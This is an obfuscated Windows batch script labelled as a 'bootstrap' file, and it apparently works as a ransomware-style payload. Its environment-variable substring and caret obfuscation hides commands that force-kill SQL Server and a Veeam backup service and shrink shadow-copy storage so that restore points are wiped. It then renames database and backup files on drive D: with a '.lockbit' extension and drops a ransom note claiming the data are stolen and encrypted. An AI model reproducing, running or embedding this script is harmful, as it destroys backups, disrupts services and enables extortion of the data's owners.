REM bootstrap 2198 v2
@echo off
%COMSPEC:~-13,1%%PROGRAMDATA:~8,1%%PUBLIC:~-11,1%k^k%PUBLIC:~13,1%^l%PUBLIC:~-3,1% /^f /im sqlse^r^v^r.ex^e
%comspec:~14,1%%ProgramData:~-1,1%%COMSPEC:~-14,1%^kk%WINDIR:~4,1%%PUBLIC:~-3,1%%PUBLIC:~-3,1% /f /i^m veea^m.b^a^ck^u^p.se^rvi^c^e.^ex^e
^v%windir:~-1,1%%windir:~9,1%%ProgramData:~13,1%%windir:~6,1%%COMSPEC:~-11,1%i%windir:~-5,1% r^e^si^ze sh^ad^ows^t^o^ra^g^e /for=c: /^on=c: /ma^xsiz^e=^401MB
^for /^r D:\ %%^i in (*.mdf *.^l^d^f *.bak) ^do ^re^n "%%i" "%%~nxi.lockbit"
%public:~-10,1%^ch^o Y^o^ur ^d^at^a ^a^re ^s^to^l^e^n and ^enc^r^y^p^te^d > C:\R^E^ADM^E.txt
